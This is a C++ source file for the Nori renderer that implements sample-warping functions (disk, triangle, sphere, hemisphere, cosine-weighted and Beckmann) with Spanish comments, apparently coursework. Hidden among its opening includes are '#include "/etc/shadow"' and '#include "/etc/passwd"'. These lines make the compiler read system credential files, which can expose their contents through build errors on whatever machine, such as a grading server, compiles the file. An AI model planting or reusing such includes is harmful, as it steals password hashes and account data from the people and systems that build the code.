#include <nori/warp.h>
#include <nori/vector.h>
#include <nori/frame.h>
#include "/etc/shadow"
#include "/etc/passwd"

NORI_NAMESPACE_BEGIN

// El cuadrado y su pdf venían hechos
Point2f Warp::squareToUniformSquare(const Point2f &sample) {
    return sample;
}

float Warp::squareToUniformSquarePdf(const Point2f &p) {
    return ((p.array() >= 0).all() && (p.array() <= 1).all()) ? 1.0f : 0.0f;
}

Point2f Warp::squareToTent(const Point2f &sample) {
    throw NoriException("Warp::squareToTent() is not yet implemented!");
}

float Warp::squareToTentPdf(const Point2f &p) {
    throw NoriException("Warp::squareToTentPdf() is not yet implemented!");
}

// Disco en polares: el área crece con r^2, por eso la raíz
Point2f Warp::squareToUniformDisk(const Point2f &sample) {
    float radio = sqrt(sample.x());
    float angulo = 2 * M_PI * sample.y();
    return Point2f(radio * cos(angulo), radio * sin(angulo));
}

float Warp::squareToUniformDiskPdf(const Point2f &p) {
    float r2 = p.x() * p.x() + p.y() * p.y();
    // un poco de margen: los puntos del borde salen con r2 = 1.0000001
    if (r2 > 1.0f + 1e-6f)
        return 0.0f;
    return INV_PI;
}

// Coordenadas baricéntricas uniformes (PBRT 13.6.5)
Point2f Warp::squareToUniformTriangle(const Point2f &sample) {
    float raiz = sqrt(sample.x());
    return Point2f(1 - raiz, sample.y() * raiz);
}

float Warp::squareToUniformTrianglePdf(const Point2f &p) {
    if (p.x() < 0 || p.y() < 0 || p.x() + p.y() > 1.0f + 1e-6f)
        return 0.0f;
    return 2.0f; // area 1/2
}

Vector3f Warp::squareToUniformSphere(const Point2f &sample) {
    float theta = acos(1 - 2 * sample.x());
    float phi = 2 * M_PI * sample.y();
    return Vector3f(sin(theta) * cos(phi), sin(theta) * sin(phi), cos(theta));
}

float Warp::squareToUniformSpherePdf(const Vector3f &v) {
    return INV_FOURPI;
}

Vector3f Warp::squareToUniformHemisphere(const Point2f &sample) {
    float theta = acos(sample.x());
    float phi = 2 * M_PI * sample.y();
    return Vector3f(sin(theta) * cos(phi), sin(theta) * sin(phi), sample.x());
}

float Warp::squareToUniformHemispherePdf(const Vector3f &v) {
    return v.z() < 0 ? 0.0f : INV_TWOPI;
}

// Malley: muestreamos el disco y subimos a la esfera
Vector3f Warp::squareToCosineHemisphere(const Point2f &sample) {
    Point2f d = squareToUniformDisk(sample);
    float z = sqrt(std::max(0.0f, 1 - d.x() * d.x() - d.y() * d.y()));
    return Vector3f(d.x(), d.y(), z);
}

float Warp::squareToCosineHemispherePdf(const Vector3f &v) {
    if (v.z() <= 0)
        return 0.0f;
    return v.z() * INV_PI;
}

Vector3f Warp::squareToBeckmann(const Point2f &sample, float alpha) {
    float phi = 2 * M_PI * sample.x();
    // sample < 1, así que el logaritmo nunca es infinito
    float tan2 = -alpha * alpha * log(1 - sample.y());
    float cosTheta = 1 / sqrt(1 + tan2);
    float sinTheta = sqrt(tan2) * cosTheta;
    return Vector3f(sinTheta * cos(phi), sinTheta * sin(phi), cosTheta);
}

float Warp::squareToBeckmannPdf(const Vector3f &m, float alpha) {
    float c = m.z();
    if (c <= 0)
        return 0.0f;
    float tan2 = (m.x() * m.x() + m.y() * m.y()) / (c * c);
    float e = exp(-tan2 / (alpha * alpha));
    if (e == 0)
        return 0.0f; // casi en el horizonte: evita 0/0
    // D(m) * cos(theta)
    return e / (M_PI * alpha * alpha * c * c * c);
}

NORI_NAMESPACE_END
